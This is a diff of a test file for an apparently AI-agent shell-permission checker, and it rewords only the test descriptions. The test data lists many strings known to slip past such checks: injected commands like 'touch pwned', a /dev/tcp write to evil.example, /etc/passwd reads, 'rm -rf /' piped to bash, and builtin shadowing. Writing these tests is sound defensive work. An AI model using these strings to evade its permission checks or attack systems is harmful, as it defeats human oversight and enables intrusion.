@@ -2,7 +2,7 @@ import { describe, expect, it } from "vitest";
 import { analyze } from "./analyze.ts";
 import { home, judge, workspace } from "./fixtures/judge.ts";
 
-/** What broke permission checks of agents before, each under the lesson that it taught. */
+/** Commands that broke permission checks of agents before, grouped by lesson. */
 const judged = (command: string): string => judge(analyze(command, { cwd: workspace, home }));
 
 function neverAllowed(lesson: string, commands: readonly string[]): void {
@@ -14,13 +14,13 @@ function neverAllowed(lesson: string, commands: readonly string[]): void {
 }
 
 describe("the workspace is compared with a separator, not as a prefix", () => {
-  it("asks about a sibling whose name begins alike", () => {
+  it("asks about a sibling directory with the same prefix", () => {
     expect(judged("cat ../app-evil/a")).toBe("ask");
     expect(judged("cat ../app/a")).toBe("allow");
   });
 });
 
-neverAllowed("decide on a parse tree, never on text split by expressions", [
+neverAllowed("decide on a parse tree, never on text split by regular expressions", [
   `echo "x"; touch pwned`,
   `echo 'x' ; touch pwned`,
   `echo "\\"; touch pwned #"; touch pwned`,
@@ -45,7 +45,7 @@ neverAllowed("network tools are never read-only", [
   "echo x > /dev/tcp/evil.example/80",
 ]);
 
-neverAllowed("options are on a list, and words are static", [
+neverAllowed("options are listed, and words are static", [
   "sort -opwned a",
   "sort --out=pwned a",
   "ls$IFS-la",
@@ -60,7 +60,7 @@ neverAllowed("options are on a list, and words are static", [
   "echo ${a['b[$(touch pwned)]']}",
 ]);
 
-neverAllowed("languages within the language are read, or asked about", [
+neverAllowed("embedded languages are analysed or unknown", [
   "sed -n 'w pwned' a",
   "cat a | sed 's/x/touch pwned/e'",
   "find . -fprint pwned",
@@ -78,12 +78,12 @@ neverAllowed("no setting of the workspace runs before trust: git after cd", [
   "git config user.email x",
 ]);
 
-describe("limits fail closed, and what is denied is seen first", () => {
+describe("limits fail closed, and denied commands are seen first", () => {
   it("sees the last of a hundred thousand parts", () => {
     expect(judged(`${"echo x; ".repeat(100_000)}sudo id`)).toBe("deny");
   });
 
-  it("sees a denied command in front of and behind what can't be parsed", () => {
+  it("sees a denied command before and after text that can't be parsed", () => {
     expect(judged(`sudo id; echo "`)).toBe("deny");
     expect(judged("sudo id\u0000")).toBe("deny");
     expect(judged("echo $(sudo id) ${")).toBe("deny");
@@ -93,7 +93,7 @@ describe("limits fail closed, and what is denied is seen first", () => {
     expect(judged("sudo id; ls \r")).toBe("deny");
   });
 
-  it("asks about what is too deep, too long or too much", () => {
+  it("asks about text that is too deep, too long or has too many parts", () => {
     expect(judged("$(".repeat(300))).toBe("ask");
     expect(judged("coproc ".repeat(20_000))).toBe("ask");
     expect(judged(`echo ${"x".repeat(1_100_000)}`)).toBe("ask");
@@ -102,7 +102,7 @@ describe("limits fail closed, and what is denied is seen first", () => {
     expect(judged(`cat {1..9}{1..9}{1..9}{1..9}`)).toBe("ask");
   });
 
-  it("doesn't go round for ever in functions and loops", () => {
+  it("always ends in functions and loops", () => {
     const doubling = Array.from({ length: 60 }, (_, at) => `f${at}() { f${at + 1}; f${at + 1}; }`);
     expect(judged(`${doubling.join("\n")}\nf60() { ls; }; f0`)).toBe("ask");
     expect(judged("f() { g; }; g() { f; }; f")).toBe("ask");
@@ -110,7 +110,7 @@ describe("limits fail closed, and what is denied is seen first", () => {
   });
 });
 
-neverAllowed("one parser, and characters that others read otherwise are refused", [
+neverAllowed("there is one parser, and characters that others read differently are unknown", [
   "ls \r\ntouch pwned",
   "ls\u00a0-la",
   "ls\u3000-la",
@@ -121,7 +121,7 @@ neverAllowed("one parser, and characters that others read otherwise are refused"
   "echo \ud800",
 ]);
 
-neverAllowed("builtins have rules, too", [
+neverAllowed("builtins have rules as well", [
   "export PATH=/tmp:$PATH",
   "typeset -i 'x=a[$(touch pwned)]'",
   "declare -x GIT_EXTERNAL_DIFF=./x; git diff",
@@ -197,7 +197,7 @@ neverAllowed("quoted text isn't safe by itself", [
   "wait -p 'a[$(touch pwned)]'",
 ]);
 
-neverAllowed("bash evaluates text that its parser's tree gives as plain words", [
+neverAllowed("bash evaluates text that is a plain word in the tree", [
   "echo {a['$(touch pwned)']}>/dev/null",
   "echo {a['$(touch pwned)']}</dev/null",
   "echo x {a['$(touch pwned)']}>>/dev/null",
@@ -249,7 +249,7 @@ neverAllowed("bash evaluates text that its parser's tree gives as plain words", 
   "cat <<E$x\nx\nE$x",
 ]);
 
-describe("the same signs in ordinary text are no matter", () => {
+describe("the same signs are harmless in ordinary text", () => {
   it.each([
     'grep -n "foo$" a.txt',
     'grep "a\\$" a.txt',
@@ -268,7 +268,7 @@ describe("the same signs in ordinary text are no matter", () => {
   });
 });
 
-neverAllowed("a variable that bash or the C library looks at is none of the script's own", [
+neverAllowed("a variable that bash or the C library reads is not the script's own", [
   "TEXTDOMAIN=x; ls",
   "TEXTDOMAINDIR=x; ls",
   "OUTPUT_CHARSET=x; ls",
@@ -311,7 +311,7 @@ neverAllowed("a variable that bash or the C library looks at is none of the scri
   "((TMOUT = 1)); ls",
 ]);
 
-neverAllowed("a function under a name that already means something", [
+neverAllowed("a function takes a name that already has a meaning", [
   "typeset() { i='a[$(touch pwned)]'; }; i=1; typeset q; echo $((i))",
   "export() { cd ..; }; export CI=1; cat outside/canary.txt",
   "readonly() { cd ..; }; readonly x=1; cat app-evil/a",
@@ -333,7 +333,7 @@ neverAllowed("a function under a name that already means something", [
   "read() { x=touch; }; while read -r l; do ls; done < a.txt",
 ]);
 
-neverAllowed("a device counts for nothing only where writing to it is nothing", [
+neverAllowed("a device is ignored only when writing to it has no effect", [
   "echo x > /dev/stdin < a.txt",
   "tee /dev/stdin < a.txt",
   "tee /dev/stdout 1<a.txt",
@@ -360,7 +360,7 @@ neverAllowed("a device counts for nothing only where writing to it is nothing", 
   "sed -i s/a/b/ /dev/null",
 ]);
 
-describe("a device counts for nothing where it does", () => {
+describe("a device is ignored when writing to it has no effect", () => {
   it.each([
     "ls > /dev/null",
     "ls &> /dev/null",
@@ -378,7 +378,7 @@ describe("a device counts for nothing where it does", () => {
   });
 });
 
-neverAllowed("a list of what is forbidden never holds: other spellings of a name", [
+neverAllowed("a denylist never holds: other spellings of a name", [
   "t''ouch pwned",
   "\\touch pwned",
   "$'touch' pwned",
@@ -391,7 +391,7 @@ neverAllowed("a list of what is forbidden never holds: other spellings of a name
   "tou\\\nch pwned",
 ]);
 
-neverAllowed("a value counts only where it surely holds", [
+neverAllowed("a value counts only when it is certain", [
   "x=ls; sh -c '$x touch pwned'",
   "x=ls; bash <<'E'\n$x touch pwned\nE",
   "x=touch; f() { if ls; then return; fi; x=ls; }; f; $x pwned",
@@ -458,7 +458,7 @@ neverAllowed("every part is checked", [
   "case $(touch pwned) in *) ls;; esac",
 ]);
 
-neverAllowed("one check for all operands and redirections of all programs", [
+neverAllowed("one check covers all operands and redirections of all programs", [
   "cat /etc/passwd",
   "head /etc/passwd",
   "ls /etc",
@@ -489,13 +489,13 @@ neverAllowed("a glob may become an option", [
   "for x in *; do sort $x; done",
 ]);
 
-neverAllowed("another shell reads it otherwise", [
+neverAllowed("another shell reads it differently", [
   `sh -c "echo \\$'\\\\'; touch pwned #'"`,
   "sh -c 'echo {a,b}'",
   "zsh -c 'ls'",
 ]);
 
-describe("what is fed to a shell is looked into for what is denied", () => {
+describe("text fed to a shell is searched for denied commands", () => {
   it.each(["echo 'sudo id' | sh", "printf 'rm -rf /' | bash -s", "echo reboot | bash"])(
     "denies %j",
     (command) => {
@@ -503,12 +503,12 @@ describe("what is fed to a shell is looked into for what is denied", () => {
     },
   );
 
-  it("takes what a script is fed for no command", () => {
+  it("doesn't read the input of a script as commands", () => {
     expect(judged("echo sudo id | bash read.sh")).toBe("ask");
   });
 });
 
-describe("nobody is asked where it is sure", () => {
+describe("certain commands need no approval", () => {
   it.each([
     'echo "---"',
     "echo --- a; git status -s",
@@ -536,12 +536,12 @@ describe("nobody is asked where it is sure", () => {
     "i=$((a[$(touch pwned)]))",
     "RANDOM=$((1))",
     "date --- x",
-  ])("asks about %j, which only looks alike", (command) => {
+  ])("asks about %j, which only looks similar", (command) => {
     expect(judged(command)).toBe("ask");
   });
 });
 
-neverAllowed("no comment begins directly behind a word", [
+neverAllowed("no comment begins directly after a word", [
   "echo <(true)# ; touch pwned",
   "echo >(true)# ; touch pwned",
   "echo a<(true)#; touch pwned",
@@ -553,7 +553,7 @@ neverAllowed("no comment begins directly behind a word", [
   "eval 'echo <(true)# ; touch pwned'",
 ]);
 
-neverAllowed("single quotes in a value that is in double quotes may be letters", [
+neverAllowed("single quotes in a double-quoted expansion may be plain letters", [
   `echo "\${x:-'$(touch pwned)'}"`,
   `echo "\${x:-$'$(touch pwned)'}"`,
   `echo "\${x-$'\\'$(touch pwned)\\''}"`,
@@ -575,7 +575,7 @@ neverAllowed("single quotes in a value that is in double quotes may be letters",
   `bash -c 'echo "\${x:-$'"'"'$(touch pwned)'"'"'}"'`,
 ]);
 
-neverAllowed("bash sets the variable _ behind every command", [
+neverAllowed("bash sets the variable _ after every command", [
   "_=a.txt; true ../outside.txt; cat $_",
   '_=a.txt; true ../outside.txt; cat "$_"',
   "for _ in a.txt; do true ../outside.txt; cat $_; done",
@@ -583,7 +583,7 @@ neverAllowed("bash sets the variable _ behind every command", [
   "_=$((1)); true 'a[$(touch pwned)]'; [[ 1 -eq _ ]]",
 ]);
 
-describe("what looks alike and is harmless", () => {
+describe("similar commands that are harmless", () => {
   it.each([
     "echo a#b c#d",
     "echo a #b",
